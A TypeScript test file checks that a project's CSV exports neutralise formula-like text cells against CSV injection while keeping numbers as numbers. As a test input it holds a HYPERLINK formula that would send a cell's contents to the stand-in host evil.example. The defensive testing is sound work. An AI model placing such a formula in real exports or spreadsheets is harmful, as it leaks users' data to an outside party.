// CSV injection (OWASP): text cells that start like a formula get a leading `'` in both CSV exports,
// `predict --csv` and the refit panel's predictions export (one shared helper); numbers stay numbers.
import { strict as assert } from 'assert';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { csvTextCell } from '../../../server/src/csv-escape';
import { splitCsvLine } from '../../../server/src/energy/fit/csv';
import { fitDataset } from '../../../server/src/energy/fit/engine';
import { predict } from '../../../server/src/cli/predict';
import { predictionsCsv } from '../../../client/src/panel/predictions-csv';
import { fittedValues } from '../../../client/src/panel/fitted-values';
import { lawDataset } from '../panel/panel-data';

const FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")';

describe('CSV exports: no live formulas', () => {
  it('csvTextCell prefixes = + - @ tab CR, and quotes as RFC 4180 needs', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      const cell = csvTextCell(`${start}1+2`);
      const read = splitCsvLine(cell);
      assert.ok(Array.isArray(read), `${JSON.stringify(start)}: ${cell}`);
      assert.equal(read[0], `'${start}1+2`, `${JSON.stringify(start)} read back as text`);
    }
    assert.equal(csvTextCell('conv1'), 'conv1');
    assert.equal(csvTextCell('a=b'), 'a=b', 'only a leading formula character counts');
    assert.equal(csvTextCell(FORMULA), `"'${FORMULA.replace(/"/g, '""')}"`);
  });

  it('predict --csv: a layer named like a formula is text; numbers are unchanged', async () => {
    const file = path.join(os.tmpdir(), `el-csv-${process.pid}.prototxt`);
    fs.writeFileSync(
      file,
      `name: "n"\ninput: "data"\ninput_shape { dim: 1 dim: 3 dim: 8 dim: 8 }\n` +
        `layer { name: ${JSON.stringify(FORMULA)} type: "Convolution" bottom: "data" top: "c" convolution_param { num_output: 2 kernel_size: 3 } }\n` +
        'layer { name: "@SUM(1)" type: "ReLU" bottom: "c" top: "c" }\n',
    );
    const io = {
      out: '',
      err: '',
      cwd: process.cwd(),
      stdout(t: string) {
        io.out += t;
      },
      stderr(t: string) {
        io.err += t;
      },
    };
    assert.equal(await predict([file, '--csv'], io), 0, io.err);
    const rows = io.out
      .trimEnd()
      .split('\n')
      .map((l) => splitCsvLine(l) as string[]);
    assert.equal(rows[1][0], `'${FORMULA}`);
    assert.equal(rows[2][0], "'@SUM(1)");
    assert.equal(rows[1][3], String(2 * 6 * 6 * 3 * 3 * 3), 'MACs stay a number');
    fs.unlinkSync(file);
  });

  it('the refit panel export: a crafted layer label is text, a negative error_pct stays a number', () => {
    const dataset = lawDataset({ rows: 12, groups: 3, noise: 0.1 });
    const report = fitDataset(dataset, { family: 'layer-type', method: 'relative', features: ['macs'] }, { cv: { kind: 'loo-network' } });
    const labels = dataset.rows.map((_, i) => (i === 0 ? FORMULA : i === 1 ? '-2+3' : `layer${i}`));
    const lines = predictionsCsv(dataset, report, fittedValues(dataset, report), labels).trimEnd().split('\n');
    const rows = lines.slice(2).map((l) => splitCsvLine(l) as string[]);
    assert.equal(rows[0][0], `'${FORMULA}`);
    assert.equal(rows[1][0], "'-2+3");
    const errorColumn = lines[1].split(',').indexOf('error_pct');
    assert.ok(
      rows.some((r) => r[errorColumn].startsWith('-') && Number.isFinite(Number(r[errorColumn]))),
      'negative numbers are not prefixed',
    );
  });
});
